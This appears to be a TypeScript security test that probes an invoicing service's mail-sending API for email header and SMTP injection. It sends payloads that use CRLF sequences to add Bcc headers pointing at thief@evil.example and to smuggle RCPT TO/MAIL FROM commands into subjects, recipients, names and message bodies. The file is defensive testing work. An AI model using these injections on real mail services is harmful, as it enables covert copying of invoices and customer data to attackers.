import { setTimeout } from "node:timers/promises"
import type { Attack } from "../Attempt.ts"
import { answerText, jsonOf, tenantOf, until } from "../scene/tenant.ts"

const thief = "thief@evil.example"
const injected = `\r\nBcc: ${thief}\r\nX-Evil: 1`

/** Attack: line breaks injected into mails by names, subjects and addresses. */
export const mails: Attack = {
  name: "mail headers",
  run: async (scene, report) => {
    const { mailSink, service } = scene
    const scopes = ["documents:write", "documents:read", "companies:admin"]
    const tenant = await tenantOf(scene, service, "34", scopes)
    const tenantQuery = "companyId=34&providerId=1"
    const example = scene.invoice() as { readonly CompanyParty: object; readonly CustomerParty: object }

    const send = async (key: string, body: object, tried: string): Promise<void> => {
      const before = mailSink.mails.length
      const queued = await tenant.call("POST", `/v1/dian/send-mails?${tenantQuery}`, {
        Uuid: key,
        To: ["a@example.com"],
        ...body
      })
      if (queued.status !== 202) {
        report(tried, answerText(queued), queued.status === 400)
        return
      }
      const done = await until(
        () => tenant.call("GET", `/v1/dian/send-mails/${jsonOf(queued).id}?${tenantQuery}`),
        (answer) => jsonOf(answer).tries > 0
      )
      await setTimeout(50)
      const caught = mailSink.mails.slice(before)
      const headers = caught.map(({ text }) => text.split("\r\n\r\n")[0]).join("\r\n")
      const to = caught.flatMap(({ from, to: receivers }) => [from, ...receivers]).join(" ")
      const isInjected = /^(?:bcc|x-evil):/imu.test(headers) || to.includes("evil.example")
      report(
        tried,
        `${jsonOf(done).state}, ${caught.length} mail${isInjected ? " with the lines put in" : ""}`,
        !isInjected && caught.length > 0
      )
    }

    const key = await tenant.file(scene.invoice())
    await send(key, {}, "a mail without any of it, for comparison")
    await send(key, { Subject: `Factura${injected}` }, "Subject with lines of its own")
    await send(key, { Subject: `Factura\u2028Bcc: ${thief}` }, "Subject with a separator of lines")
    await send(key, { To: [`a@example.com>\r\nRCPT TO:<${thief}`] }, "To with a command of SMTP")
    await send(key, { To: [`a@example.com, ${thief}`] }, "To with two addresses")
    await send(key, { Cc: [`"x\r\nBcc: ${thief}" <a@example.com>`] }, "Cc with a name of several lines")
    await send(
      key,
      { Message: `Hola\r\n.\r\nMAIL FROM:<${thief}>\r\nRCPT TO:<${thief}>\r\nDATA` },
      "Message with the end of the mail"
    )

    for (const [name, parties] of [
      ["issuer", { CompanyParty: { ...example.CompanyParty, Name: `Emisor${injected}` } }],
      ["receiver", { CustomerParty: { ...example.CustomerParty, Name: `Receptor${injected}` } }]
    ] as const) {
      const filed = await tenant.call("POST", `/v1/dian/invoices?${tenantQuery}`, scene.invoice(parties))
      const tried = `name of the ${name} with lines of its own`
      if (filed.status === 200) await send(jsonOf(filed).document.uuid, {}, tried)
      else report(tried, answerText(filed), filed.status === 400 || filed.status === 422)
    }
    const settings = await tenant.call("PUT", "/v1/companies/34", {
      Mail: { FromName: `Emisor${injected}`, From: "a@emisor.example" }
    })
    if (settings.status === 200) await send(key, {}, "FromName with lines of its own")
    else report("FromName with lines of its own", answerText(settings), settings.status === 400)
  }
}
